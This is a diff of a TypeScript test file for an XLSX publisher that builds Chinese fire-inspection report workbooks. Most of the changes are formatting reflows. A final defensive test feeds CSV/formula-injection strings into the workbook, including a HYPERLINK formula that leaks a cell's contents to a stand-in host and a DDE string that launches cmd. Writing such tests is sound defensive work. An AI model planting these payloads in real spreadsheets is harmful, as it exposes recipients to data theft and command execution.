@@ -32,7 +32,13 @@ beforeAll(async () => {
   await writeSampleInbox({ outDir: inbox, year: 2024, seed: 1 });
   const warehouse = await Warehouse.open({ path: join(dir, 'w.duckdb') });
   try {
-    await ingest({ source: new FolderInbox(inbox), warehouse, registry: UnitRegistry.sample(), reportsDir: join(dir, 'reports'), clock: () => new Date('2025-01-20T02:00:00Z') });
+    await ingest({
+      source: new FolderInbox(inbox),
+      warehouse,
+      registry: UnitRegistry.sample(),
+      reportsDir: join(dir, 'reports'),
+      clock: () => new Date('2025-01-20T02:00:00Z'),
+    });
     docs = await buildDocuments({ warehouse, year: 2024, generatedAt, asOf });
   } finally {
     await warehouse.close();
@@ -41,7 +47,9 @@ beforeAll(async () => {
   t = performance.now();
   files = await new XlsxPublisher().publish(docs);
   timings.publish = performance.now() - t;
-  console.log(`xlsx: sample year to documents in ${(timings.sample / 1000).toFixed(1)} s; ${files.length} workbooks in ${(timings.publish / 1000).toFixed(1)} s`);
+  console.log(
+    `xlsx: sample year to documents in ${(timings.sample / 1000).toFixed(1)} s; ${files.length} workbooks in ${(timings.publish / 1000).toFixed(1)} s`,
+  );
 });
 
 afterAll(() => {
@@ -183,9 +191,20 @@ describe('XlsxPublisher on the sample year', () => {
     // The bureau's 消防监督检查（份）beside 检查社会单位数（家）, never added to it; its 行政处罚（件）
     // after the case groups — units as the B1 form declares them, as on the pages.
     expect(headers).toEqual([
-      '序号', '单位', '检查社会单位数（家）', '局本级消防监督检查（份）', '发现火灾隐患数（处）', '整改火灾隐患数（处）', '整改率',
-      '一般程序（起）', '简易程序（起）', '一般程序（起）', '简易程序（起）',
-      '局本级行政处罚（件）', '联合执法检查（次）', '消防管理岗人员（名）',
+      '序号',
+      '单位',
+      '检查社会单位数（家）',
+      '局本级消防监督检查（份）',
+      '发现火灾隐患数（处）',
+      '整改火灾隐患数（处）',
+      '整改率',
+      '一般程序（起）',
+      '简易程序（起）',
+      '一般程序（起）',
+      '简易程序（起）',
+      '局本级行政处罚（件）',
+      '联合执法检查（次）',
+      '消防管理岗人员（名）',
     ]);
     expect(ws.getCell('H3').value).toBe('赋权执法案件');
     expect(ws.getCell('J3').value).toBe('委托执法案件');
@@ -208,8 +227,17 @@ describe('XlsxPublisher on the sample year', () => {
     const district = doc.rows.find((r) => r.kind === 'district_total')!;
     const r = rowOf(ws, 2, '全区合计');
     const columnOf: Record<string, number> = {
-      units_inspected: 3, bureau_inspections: 4, hazards_found: 5, hazards_rectified: 6, empowered_general_cases: 8, empowered_simple_cases: 9,
-      entrusted_general_cases: 10, entrusted_simple_cases: 11, bureau_penalties: 12, joint_inspections: 13, fire_staff: 14,
+      units_inspected: 3,
+      bureau_inspections: 4,
+      hazards_found: 5,
+      hazards_rectified: 6,
+      empowered_general_cases: 8,
+      empowered_simple_cases: 9,
+      entrusted_general_cases: 10,
+      entrusted_simple_cases: 11,
+      bureau_penalties: 12,
+      joint_inspections: 13,
+      fire_staff: 14,
     };
     expect([...doc.columns, ...doc.bureauOnlyColumns].map((c) => c.metric).sort()).toEqual(Object.keys(columnOf).sort());
     for (const [metric, col] of Object.entries(columnOf)) expect(ws.getCell(r, col).value, metric).toBe(district.quarter[metric]);
@@ -297,7 +325,7 @@ describe('XlsxPublisher on the sample year', () => {
   it('shows who sent what in the 调度表, with status text, colours and the reasons', async () => {
     const doc = docs.dispatch.find((d) => d.quarter === 1)!;
     const wb = await open(file('xlsx/调度表-2024-Q1.xlsx').content);
-    expect(wb.worksheets.map((w) => w.name)).toEqual(['报送情况', '未整改隐患', '数据问题']);
+    expect(wb.worksheets.map((w) => w.name)).toEqual(['报送情况', '未整改隐患', '数据问题', '已核实问题']);
     const ws = sheet(wb, '报送情况');
     expect(ws.getCell('A1').value).toBe('渝北区2024年第一季度报表报送情况调度表');
     // B1 has one column per month under its form's name.
@@ -335,7 +363,17 @@ describe('XlsxPublisher on the sample year', () => {
   it('lists the findings in 数据问题 with their file, sheet and cell', async () => {
     const doc = docs.dispatch.find((d) => d.quarter === 4)!;
     const ws = sheet(await open(file('xlsx/调度表-2024-Q4.xlsx').content), '数据问题');
-    expect([1, 2, 3, 4, 5, 6, 7, 8, 9].map((c) => ws.getCell(3, c).value)).toEqual(['序号', '单位', '报表', '问题类型', '级别', '说明', '文件', '工作表', '单元格']);
+    expect([1, 2, 3, 4, 5, 6, 7, 8, 9].map((c) => ws.getCell(3, c).value)).toEqual([
+      '序号',
+      '单位',
+      '报表',
+      '问题类型',
+      '级别',
+      '说明',
+      '文件',
+      '工作表',
+      '单元格',
+    ]);
     expect(doc.findings.length).toBeGreaterThan(0);
     doc.findings.forEach((f, i) => {
       const r = 4 + i;
@@ -388,7 +426,8 @@ describe('XlsxPublisher on the sample year', () => {
         expect(ws.pageSetup.printTitlesRow, `${f.path} ${ws.name}`).toMatch(/^3:[34]$/);
         expect(ws.views[0]?.state).toBe('frozen');
       }
-      for (const [name, xml] of await members(f.content)) if (name.startsWith('xl/worksheets/')) expect(xml.toString('utf8'), `${f.path} ${name}`).not.toMatch(/<f[ >]/);
+      for (const [name, xml] of await members(f.content))
+        if (name.startsWith('xl/worksheets/')) expect(xml.toString('utf8'), `${f.path} ${name}`).not.toMatch(/<f[ >]/);
     }
   });
 
@@ -413,11 +452,21 @@ describe('XlsxPublisher on the sample year', () => {
 });
 
 describe('XlsxPublisher with submitted text that looks like a formula', () => {
-  const attacks = ['=HYPERLINK("http://evil.example/?leak="&A1,"点击查看")', '+1+1', '@SUM(A1:A9)', '-2+3', '\t=cmd|\' /C calc\'!A0', '\r=1'];
+  const attacks = ['=HYPERLINK("http://evil.example/?leak="&A1,"点击查看")', '+1+1', '@SUM(A1:A9)', '-2+3', "\t=cmd|' /C calc'!A0", '\r=1'];
 
   function poisoned(base: DispatchDocument): DispatchDocument {
     const finding = base.findings[0] ?? {
-      findingId: 'x', rule: 't1_ledger_mismatch', ruleLabel: '统计表与台账不符', severity: 'warning' as const, unit: '龙兴镇', form: 'T1', message: '', path: null, sheet: null, cell: null, submissionId: null,
+      findingId: 'x',
+      rule: 't1_ledger_mismatch',
+      ruleLabel: '统计表与台账不符',
+      severity: 'warning' as const,
+      unit: '龙兴镇',
+      form: 'T1',
+      message: '',
+      path: null,
+      sheet: null,
+      cell: null,
+      submissionId: null,
     };
     const statuses = ['rejected', 'missing', 'pending', 'on_time'] as const;
     let k = 0;
@@ -425,7 +474,14 @@ describe('XlsxPublisher with submitted text that looks like a formula', () => {
       ...base,
       matrix: base.matrix.map((e) => (e.form === 'T1' && k < statuses.length ? { ...e, status: statuses[k++], reason: attacks[0] } : e)),
       openHazards: base.openHazards.map((h, i) => (i === 0 ? { ...h, byCategory: { ...h.byCategory, '=1+1': 1 } } : h)),
-      findings: attacks.map((a, i) => ({ ...finding, findingId: `x${i}`, message: a, path: attacks[(i + 1) % attacks.length], sheet: attacks[(i + 2) % attacks.length], cell: attacks[(i + 3) % attacks.length] })),
+      findings: attacks.map((a, i) => ({
+        ...finding,
+        findingId: `x${i}`,
+        message: a,
+        path: attacks[(i + 1) % attacks.length],
+        sheet: attacks[(i + 2) % attacks.length],
+        cell: attacks[(i + 3) % attacks.length],
+      })),
     });
   }
 
@@ -438,7 +494,12 @@ describe('XlsxPublisher with submitted text that looks like a formula', () => {
     const ws = sheet(wb, '数据问题');
     doc.findings.forEach((f, i) => {
       const r = 4 + i;
-      for (const [c, text] of [[6, f.message], [7, f.path], [8, f.sheet], [9, f.cell]] as const) {
+      for (const [c, text] of [
+        [6, f.message],
+        [7, f.path],
+        [8, f.sheet],
+        [9, f.cell],
+      ] as const) {
         const cell = ws.getCell(r, c);
         expect(cell.type, `${cell.address} ${String(text)}`).toBe(ExcelJS.ValueType.String);
         expect(cell.formula).toBeUndefined();
